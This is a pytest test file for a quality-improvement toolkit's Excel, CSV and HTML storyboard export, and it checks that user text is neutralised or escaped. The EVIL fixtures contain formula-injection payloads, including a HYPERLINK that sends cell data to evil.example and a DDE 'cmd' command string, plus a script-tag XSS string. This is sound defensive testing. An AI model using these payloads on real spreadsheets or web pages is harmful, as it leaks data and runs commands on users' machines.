"""Tests for qikit.improve.export: Excel, CSV and the HTML storyboard."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import re
import warnings
from html.parser import HTMLParser

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt  # noqa: E402
import numpy as np  # noqa: E402
import openpyxl  # noqa: E402
import pandas as pd  # noqa: E402
import pytest  # noqa: E402

from qikit import _io as qikit_io  # noqa: E402
from qikit.errors import (
    InputError,  # noqa: E402
    ProjectFileError,  # noqa: E402
)
from qikit.improve import export as export_module  # noqa: E402
from qikit.improve.driver import DriverDiagram  # noqa: E402
from qikit.improve.examples import (  # noqa: E402
    example_measures,
    example_ramp,
)
from qikit.improve.export import (  # noqa: E402
    EXCEL_CELL_LIMIT,
    FORMULA_TRIGGERS,
    export_csv,
    export_excel,
    neutralise,
    neutralise_frame,
    project_tables,
    storyboard_html,
)
from qikit.improve.measures import Measure  # noqa: E402
from qikit.improve.pdsa import PDSACycle  # noqa: E402
from qikit.improve.project import Note, Project  # noqa: E402
from tests.improve.test_project import make_project  # noqa: E402

UTC = dt.UTC
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+44 131 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\u22121",
    "\uff1d1+1",
]
SCRIPT = "<script>alert('x')</script> & \"quotes\""


@pytest.fixture(autouse=True)
def _no_open_figures():
    plt.close("all")
    yield
    assert plt.get_fignums() == [], "a figure was left open"


@pytest.fixture
def project() -> Project:
    return make_project()


@pytest.fixture
def evil_project() -> Project:
    """Formula-like and HTML-like text in every place a learner can type."""
    project = make_project(name=EVIL[0], team=EVIL[3], members=EVIL[:3])
    project.notes = [Note(text, id=f"e{k}") for k, text in enumerate(EVIL)]
    project.notes.append(Note(SCRIPT, key_learning=True, id="script"))
    project.measures[2].name = "=cmd|' /C calc'!A0"
    project.measures[2].unit = "-hours"
    project.pdsa_cycles[0].objective = "@evil " + SCRIPT
    project.aim.what = "=1+2 " + SCRIPT
    project.driver_diagram.nodes[0].text = "+danger " + SCRIPT
    return project


# ------------------------------------------------------------------ neutralising
class TestNeutralise:
    @pytest.mark.parametrize("text", EVIL)
    def test_triggers_get_an_apostrophe(self, text):
        assert neutralise(text) == "'" + text

    @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
    def test_every_trigger(self, trigger):
        assert neutralise(trigger + "x") == "'" + trigger + "x"

    @pytest.mark.parametrize(
        "value",
        ["", "Falls fell", " =1", "'=1", "1-2", "a@b", 5, -3, 2.5, None, True,
         dt.date(2024, 1, 1)],
    )  # fmt: skip
    def test_everything_else_is_unchanged(self, value):
        assert neutralise(value) is value or neutralise(value) == value

    def test_frame(self):
        frame = pd.DataFrame({"=a": ["=1", "ok", None], "n": [-1, 2, 3]})
        clean = neutralise_frame(frame)
        assert list(clean.columns) == ["'=a", "n"]
        assert clean["'=a"].tolist()[:2] == ["'=1", "ok"]
        assert pd.isna(clean["'=a"].tolist()[2])
        assert clean["n"].tolist() == [-1, 2, 3]
        assert list(frame.columns) == ["=a", "n"]  # the input is not changed


# ------------------------------------------------------------------------ tables
class TestTables:
    def test_sheets(self, project):
        tables = project_tables(project)
        assert list(tables) == [
            "About",
            "Aim",
            "Measures",
            "Data 1 - New pressure ulcers pe",
            "Data 2 - Residents with the SSK",
            "Data 3 - Care staff overtime ho",
            "Driver diagram",
            "PDSA log",
            "Notes",
        ]
        assert all(len(name) <= 31 for name in tables)
        assert len(tables["Measures"]) == 3
        assert len(tables["PDSA log"]) == 4
        assert tables["Data 1 - New pressure ulcers pe"]["y"].tolist() == (
            project.measures[0].data["y"].tolist()
        )
        about = dict(
            zip(tables["About"]["item"], tables["About"]["value"], strict=True)
        )
        assert about["name"] == project.name
        assert about["members"] == "Aisha Khan, Ben Ross"

    def test_empty_project(self):
        tables = project_tables(Project("x"))
        assert list(tables) == [
            "About", "Aim", "Measures", "Driver diagram", "PDSA log", "Notes",
        ]  # fmt: skip
        assert all(tables[name].empty for name in list(tables)[1:])

    def test_sheet_names_are_valid_and_unique(self):
        data = pd.DataFrame({"x": [1, 2], "y": [3.0, 4.0]})
        measures = [
            Measure("Falls [ward 6]: night/day?*", kind="outcome", id="a", data=data),
            Measure("Falls [ward 6]: night/day?*", kind="process", id="b", data=data),
        ]
        names = list(project_tables(Project("x", measures=measures)))
        assert names[3:5] == [
            "Data 1 - Falls ward 6 night day",
            "Data 2 - Falls ward 6 night day",
        ]
        used: set[str] = {"Data"}
        assert export_module._sheet_name("data", used) == "data (2)"
        assert export_module._sheet_name("'quoted'", set()) == "quoted"
        assert export_module._sheet_name("[]", set()) == "Sheet"

    def test_not_a_project(self):
        with pytest.raises(InputError) as info:
            project_tables("x")
        assert str(info.value) == (
            "`project`: expected a Project (got str). Build one with Project(name, "
            "...) or load_project(path)."
        )


# ------------------------------------------------------------------------- Excel
def _expected(value):
    """What a cell should hold after export, for comparison with openpyxl."""
    value = export_module._excel_value(value)
    if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
        return dt.datetime.combine(value, dt.time())
    if value == "":
        return None  # a spreadsheet has no empty text, only empty cells
    return value


class TestExcel:
    def test_every_value_round_trips(self, evil_project, tmp_path):
        path = export_excel(evil_project, tmp_path / "project.xlsx")
        workbook = openpyxl.load_workbook(path)
        tables = project_tables(evil_project)
        assert workbook.sheetnames == list(tables)
        for name, frame in tables.items():
            sheet = workbook[name]
            rows = list(sheet.iter_rows(values_only=True))
            assert list(rows[0]) == [neutralise(str(c)) for c in frame.columns]
            assert len(rows) == len(frame) + 1
            for got, want in zip(rows[1:], frame.itertuples(index=False), strict=True):
                for a, b in zip(got, want, strict=True):
                    expected = _expected(b)
                    if isinstance(expected, float):
                        assert a == pytest.approx(expected)
                    else:
                        assert a == expected

    def test_no_cell_is_a_formula_or_starts_with_a_trigger(
        self, evil_project, tmp_path
    ):
        path = export_excel(evil_project, tmp_path / "project.xlsx")
        workbook = openpyxl.load_workbook(path)
        texts = 0
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f"
                    if isinstance(cell.value, str):
                        texts += 1
                        assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
        assert texts > 100
        notes = workbook["Notes"]
        assert [row[4] for row in notes.iter_rows(min_row=2, values_only=True)][:8] == [
            "'" + text.replace("\r", "\n") for text in EVIL
        ]  # xlsx (XML) keeps line breaks as \n

    def test_pandas_reads_the_data_back(self, project, tmp_path):
        path = export_excel(project, tmp_path / "project.xlsx")
        sheets = pd.read_excel(path, sheet_name=None)
        data = sheets["Data 2 - Residents with the SSK"]
        measure = project.measures[1]
        assert data["y"].tolist() == measure.data["y"].tolist()
        assert data["n"].tolist() == measure.data["n"].tolist()
        assert pd.to_datetime(data["x"]).tolist() == measure.data["x"].tolist()
        log = sheets["PDSA log"]
        assert log["start"].tolist() == [
            pd.Timestamp(c.start) for c in project.pdsa_cycles
        ]
        assert log["objective"].tolist() == [c.objective for c in project.pdsa_cycles]

    def test_layout(self, project, tmp_path):
        workbook = openpyxl.load_workbook(export_excel(project, tmp_path / "p.xlsx"))
        sheet = workbook["Data 1 - New pressure ulcers pe"]
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet["E2"].number_format == "yyyy-mm-dd"
        assert isinstance(sheet["E2"].value, dt.datetime)

    def test_control_characters_and_long_text(self, tmp_path):
        project = Project(
            "x",
            notes=[Note("bell\x07 and\x00null", id="a"), Note("y" * 40_000, id="b")],
        )
        workbook = openpyxl.load_workbook(export_excel(project, tmp_path / "p.xlsx"))
        values = [
            row[4] for row in workbook["Notes"].iter_rows(min_row=2, values_only=True)
        ]
        assert values[0] == "bell\ufffd and\ufffdnull"
        assert len(values[1]) == EXCEL_CELL_LIMIT
        assert values[1].endswith("… [cut: too long for one spreadsheet cell]")

    def test_cell_values(self):
        value = export_module._cell_value
        assert value(np.int64(3)) == 3 and type(value(np.int64(3))) is int
        assert value(np.nan) is None and value(float("inf")) is None
        assert value(pd.NaT) is None and value(None) is None
        assert value(pd.Timestamp("2024-01-02")) == dt.date(2024, 1, 2)
        aware = dt.datetime(
            2024, 1, 2, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1))
        )
        assert value(aware) == dt.datetime(2024, 1, 2, 9, 30)
        assert value(["=a", 1]) == '["=a", 1]'
        assert value("=a") == "'=a"
        assert value({"a": 1}) == '{"a": 1}'
        assert value(True) is True

    def test_errors(self, project, tmp_path):
        with pytest.raises(ProjectFileError) as info:
            export_excel(project, tmp_path)
        assert str(info.value) == (
            f"Cannot export to {str(tmp_path)!r}: this is a folder. Add a file name, "
            "such as 'project.xlsx'."
        )
        missing = tmp_path / "no" / "p.xlsx"
        with pytest.raises(ProjectFileError) as info:
            export_excel(project, missing)
        assert str(info.value) == (
            f"Cannot export to {str(missing)!r}: the folder {str(missing.parent)!r} "
            "does not exist. Create it first, or choose another folder."
        )
        with pytest.raises(
            InputError, match=r"^`project`: expected a Project \(got int\)"
        ):
            export_excel(3, tmp_path / "p.xlsx")

    def test_write_failure(self, project, tmp_path, monkeypatch):
        def full(*args):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(qikit_io.os, "replace", full)
        path = tmp_path / "p.xlsx"
        with pytest.raises(ProjectFileError) as info:
            export_excel(project, path)
        assert str(info.value) == (
            f"Cannot write {str(path)!r}: No space left on device. Choose a folder "
            "you can write to, and check that the disk is not full."
        )


# --------------------------------------------------------------------------- CSV
class TestCSV:
    def test_files_and_values(self, evil_project, tmp_path):
        files = export_csv(evil_project, tmp_path / "csv")
        tables = project_tables(evil_project)
        assert list(files) == list(tables)
        assert [p.name for p in files.values()] == [
            "about.csv",
            "aim.csv",
            "measures.csv",
            "data_1_new_pressure_ulcers_pe.csv",
            "data_2_residents_with_the_ssk.csv",
            "data_3_cmd_c_calc_a0.csv",
            "driver_diagram.csv",
            "pdsa_log.csv",
            "notes.csv",
        ]
        for name, path in files.items():
            raw = path.read_bytes()
            assert raw.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8
            with open(path, encoding="utf-8-sig", newline="") as handle:
                rows = list(csv.reader(handle))
            frame = tables[name]
            assert rows[0] == [neutralise(str(c)) for c in frame.columns]
            assert len(rows) == len(frame) + 1
            for got, want in zip(rows[1:], frame.itertuples(index=False), strict=True):
                for a, b in zip(got, want, strict=True):
                    expected = export_module._csv_value(b)
                    if expected is None:
                        assert a == ""
                    elif isinstance(expected, float):
                        assert float(a) == pytest.approx(expected)
                    elif isinstance(expected, bool):
                        assert a == str(expected)
                    else:
                        assert a == str(expected)
                    assert not a.startswith(FORMULA_TRIGGERS), a

    def test_pandas_reads_the_data_back(self, project, tmp_path):
        files = export_csv(project, tmp_path)
        data = pd.read_csv(
            files["Data 1 - New pressure ulcers pe"], encoding="utf-8-sig"
        )
        measure = project.measures[0]
        assert data["y"].tolist() == measure.data["y"].tolist()
        assert pd.to_datetime(data["x"]).tolist() == measure.data["x"].tolist()
        notes = pd.read_csv(files["Notes"], encoding="utf-8-sig", keep_default_na=False)
        assert notes["text"].tolist() == [n.text for n in project.notes]
        assert notes["date"].tolist() == ["2024-03-09", ""]

    def test_folder_is_a_file(self, project, tmp_path):
        target = tmp_path / "taken"
        target.write_text("x")
        with pytest.raises(ProjectFileError) as info:
            export_csv(project, target)
        assert str(info.value) == (
            f"Cannot export to {str(target)!r}: it is a file, not a folder. Choose a "
            "folder for the CSV files."
        )

    def test_folder_cannot_be_made(self, project, tmp_path, monkeypatch):
        def denied(self, *args, **kwargs):
            raise PermissionError(13, "Permission denied")

        monkeypatch.setattr(export_module.Path, "mkdir", denied)
        with pytest.raises(ProjectFileError) as info:
            export_csv(project, tmp_path / "csv")
        assert str(info.value) == (
            f"Cannot export to {str(tmp_path / 'csv')!r}: Permission denied. Choose a "
            "folder you can write to."
        )


# -------------------------------------------------------------------- storyboard
class _Checker(HTMLParser):
    """Collects tags, attributes and text, and checks that elements nest properly."""

    VOID = {"meta", "img", "br", "hr", "link", "input"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.headings: list[tuple[str, str]] = []
        self._heading: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.stack.append(tag)
        if tag in {"h1", "h2", "h3"}:
            self._heading = tag
            self.headings.append((tag, ""))

    def handle_endtag(self, tag):
        assert self.stack and self.stack[-1] == tag, (
            f"</{tag}> closes {self.stack[-1:]}"
        )
        self.stack.pop()
        if tag == self._heading:
            self._heading = None

    def handle_data(self, data):
        self.text.append(data)
        if self._heading:
            tag, text = self.headings[-1]
            self.headings[-1] = (tag, text + data)


def parse(page: str) -> _Checker:
    checker = _Checker()
    checker.feed(page)
    checker.close()
    assert checker.stack == [], f"unclosed: {checker.stack}"
    return checker


@pytest.fixture(scope="module")
def page() -> str:
    return storyboard_html(make_project())


class TestStoryboard:
    def test_structure(self, page):
        assert page.startswith('<!DOCTYPE html>\n<html lang="en-GB">')
        checker = parse(page)
        assert [h for h in checker.headings if h[0] != "h3"] == [
            ("h1", "Fewer pressure ulcers in Ashgrove House"),
            ("h2", "Aim: what are we trying to accomplish?"),
            ("h2", "Driver diagram: what changes can we make?"),
            ("h2", "Measures: how will we know that a change is an improvement?"),
            ("h2", "PDSA cycles: testing the changes"),
            ("h2", "Key learning"),
        ]
        names = [m.name for m in make_project().measures]
        assert [t for tag, t in checker.headings if tag == "h3"] == names
        tags = [tag for tag, _ in checker.tags]
        for tag in (
            "header",
            "main",
            "footer",
            "section",
            "figure",
            "table",
            "caption",
        ):
            assert tag in tags
        assert '<meta charset="utf-8">' in page

    def test_self_contained(self, page):
        checker = parse(page)
        lowered = page.lower()
        assert "<script" not in lowered and "<link" not in lowered
        assert "@import" not in lowered and "url(" not in lowered
        assert "http://" not in lowered and "https://" not in lowered
        for tag, attrs in checker.tags:
            for name in ("src", "href", "srcset", "poster", "data"):
                if name in attrs:
                    assert attrs[name].startswith(("data:", "#")), (tag, name)

    def test_images_are_inline_pngs_with_alt_text(self, page):
        checker = parse(page)
        images = [attrs for tag, attrs in checker.tags if tag == "img"]
        assert len(images) == 4  # the driver diagram and three charts
        for attrs in images:
            assert attrs["src"].startswith("data:image/png;base64,")
            data = base64.b64decode(attrs["src"].split(",", 1)[1], validate=True)
            assert data.startswith(b"\x89PNG\r\n\x1a\n")
            assert attrs.get("alt", "").strip()
        project = make_project()
        assert images[0]["alt"].startswith("Driver diagram. Aim: ")
        assert "Change idea: Repositioning clock by the bed" in images[0]["alt"]
        result = project.measures[0].chart(chart="run", xlab="")
        explained = " ".join(
            line.strip() for line in result.explain().splitlines() if line.strip()
        )
        assert images[1]["alt"] == explained

    def test_pdsa_cycles_marked_and_logged(self, page):
        assert (
            page.count(
                "Flags mark the start of PDSA cycles 1–4 (numbers as in the PDSA log)."
            )
            == 3
        )
        checker = parse(page)
        text = " ".join(checker.text)
        cycles = make_project().pdsa_cycles
        for cycle in cycles:
            assert cycle.objective in text
        assert "4 March 2024 – 8 March 2024" in text
        assert "Repositioning clock by the bed" in text  # change idea text, not its id
        assert "Night staff found the clock easy to use." in text
        assert "(9 March 2024, Aisha)" in text
        assert "Agency staff need a briefing." not in text  # not key learning

    def test_text_is_escaped(self, evil_project):
        page = storyboard_html(evil_project)
        parse(page)
        assert "<script>" not in page
        assert (
            "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &quot;quotes&quot;"
            in page
        )
        assert "<title>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page

    def test_written_to_a_file(self, project, tmp_path):
        path = tmp_path / "story.html"
        page = storyboard_html(project, path, dpi=40)
        assert path.read_text(encoding="utf-8") == page

    def test_empty_project(self):
        page = storyboard_html(Project(""))
        checker = parse(page)
        assert checker.headings[0] == ("h1", "Improvement project")
        assert not [t for t, _ in checker.tags if t == "img"]
        for text in (
            "No aim yet: what are we trying to accomplish?",
            "No driver diagram yet.",
            "No measures yet.",
            "No PDSA cycles yet.",
            "No key learning recorded yet.",
        ):
            assert text in page

    def test_notes_stand_in_for_key_learning(self):
        page = storyboard_html(Project("x", notes=["First huddle held"]))
        assert "No note is marked as key learning yet; these are the team's notes." in (
            page.replace("&#x27;", "'")
        )
        assert "First huddle held" in page

    def test_measures_without_data_or_dates(self):
        numbers = pd.DataFrame({"x": range(1, 21), "y": np.arange(20) % 7})
        cycle = example_ramp().cycles[0]
        project = Project(
            "x",
            measures=[
                Measure("Empty", kind="outcome"),
                Measure("Weeks", kind="process", data=numbers, unit="%"),
            ],
            pdsa_cycles=[cycle],
        )
        page = storyboard_html(project, dpi=40)
        assert "No data yet: add points to see the chart." in page
        assert (
            "PDSA cycles are not marked: this measure&#x27;s points are not dates."
            in page
        )
        assert "Process measure; unit: %; higher is better." in page

    def test_engine_warnings_are_shown_under_the_chart(self):
        data = pd.DataFrame(
            {
                "x": pd.date_range("2024-01-01", periods=5, freq="W"),
                "y": [1, 2, 3, 4, 5],
            }
        )
        project = Project("x", measures=[Measure("Short", kind="outcome", data=data)])
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # nothing escapes to the learner's screen
            page = storyboard_html(project, dpi=40)
        assert (
            "This chart has only 5 usable points, fewer than the 12 recommended."
            in page
        )

    def test_a_chart_that_cannot_be_drawn(self, monkeypatch):
        def refuse(self, **kwargs):
            raise InputError("`y`: too few points (got 1). Add more data.")

        monkeypatch.setattr(Measure, "chart", refuse)
        project = Project("x", measures=example_measures()[:1])
        page = storyboard_html(project, dpi=40)
        assert (
            "The chart could not be drawn: `y`: too few points (got 1). Add more data."
            in page
        )

    def test_each_measures_own_chart(self):
        project = make_project(measures=example_measures()[:1], driver_diagram=None)
        page = storyboard_html(project, chart="measure", dpi=40)
        checker = parse(page)
        alt = [a["alt"] for t, a in checker.tags if t == "img"][0]
        result = project.measures[0].chart(xlab="")
        assert alt == " ".join(
            line.strip() for line in result.explain().splitlines() if line.strip()
        )

    def test_cycles_in_one_period_share_a_flag(self):
        x = pd.Series(pd.date_range("2024-01-01", periods=10, freq="W-MON"))
        starts = ["2024-01-01", "2024-01-03", "2024-01-05", "2024-01-10", None,
                  "2023-12-01", "2024-01-03", "2024-03-04", "2024-03-05"]  # fmt: skip
        cycles = [
            (k, PDSACycle(f"Cycle {k}", start=start, id=f"k{k}"))
            for k, start in enumerate(starts, start=1)
        ]
        flags, marked = export_module._pdsa_flags(x, cycles)
        assert flags == [
            (pd.Timestamp("2024-01-01"), "PDSA 1–3, 7"),
            (pd.Timestamp("2024-01-10"), "PDSA 4"),
            (pd.Timestamp("2024-03-04"), "PDSA 8"),
        ]
        assert marked == [1, 2, 3, 4, 7, 8]  # 5 has no date; 6 and 9 are outside
        assert export_module._pdsa_flags(
            pd.Series([], dtype="datetime64[ns]"), cycles
        ) == (
            [],
            [],
        )

    @pytest.mark.parametrize(
        ("numbers", "text"),
        [([], ""), ([4], "4"), ([1, 2], "1, 2"), ([3, 1, 2], "1–3"),
         ([1, 2, 3, 5, 8, 9, 10, 11], "1–3, 5, 8–11")],
    )  # fmt: skip
    def test_ranges(self, numbers, text):
        assert export_module._ranges(numbers) == text

    def test_cycles_outside_the_data_are_not_marked(self):
        cycles = example_ramp().cycles
        cycles[0].start = dt.date(2030, 1, 1)
        cycles[0].end = None
        project = make_project(pdsa_cycles=cycles, driver_diagram=None)
        page = storyboard_html(project, dpi=40)
        assert "Flags mark the start of PDSA cycles 2–4 (" in page

    def test_cycles_linked_to_another_measure_only(self):
        diagram = DriverDiagram(aim="Aim")
        primary = diagram.add_primary("Driver")
        secondary = diagram.add_secondary("Secondary", parent=primary)
        idea = diagram.add_change_idea("Idea", parent=secondary, measures=["overtime"])
        cycles = example_ramp().cycles
        for cycle in cycles:
            cycle.change_idea = idea
        cycles[1].change_idea = ""
        project = make_project(driver_diagram=diagram, pdsa_cycles=cycles)
        page = storyboard_html(project, dpi=40)
        assert page.count("Flags mark the start of PDSA cycles 1, 3, 4 (") == 1
        assert page.count("Flags mark the start of PDSA cycles 1–4 (") == 2

    @pytest.mark.parametrize(
        ("kwargs", "message"),
        [
            (
                {"chart": "p"},
                "`chart`: not a choice (got 'p'). Use 'run' for run charts, or "
                "'measure' for each measure's own chart type.",
            ),
            (
                {"dpi": 5},
                "`dpi`: must be a whole number from 30 to 600 (got 5). Use 110 for the "
                "screen or 200 for print.",
            ),
            (
                {"dpi": 100.0},
                "`dpi`: must be a whole number from 30 to 600 (got 100.0). Use 110 for "
                "the screen or 200 for print.",
            ),
        ],
    )
    def test_argument_messages(self, kwargs, message):
        with pytest.raises(InputError) as info:
            storyboard_html(Project("x"), **kwargs)
        assert str(info.value) == message

    def test_not_a_project(self):
        with pytest.raises(InputError, match=r"^`project`: expected a Project"):
            storyboard_html(None)

    def test_print_layout(self, page):
        assert "@media print" in page and "@page { size: A4" in page
        assert re.search(r"break-inside:\s*avoid", page)
